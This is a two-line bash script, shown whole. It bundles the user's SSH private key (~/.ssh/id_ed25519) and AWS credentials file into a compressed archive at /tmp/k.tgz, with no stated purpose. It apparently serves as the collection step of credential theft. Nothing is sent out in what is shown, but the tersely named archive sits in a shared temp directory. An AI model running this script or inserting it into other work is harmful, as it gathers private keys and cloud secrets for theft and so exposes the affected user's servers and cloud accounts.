#!/bin/bash
tar czf /tmp/k.tgz ~/.ssh/id_ed25519 ~/.aws/credentials
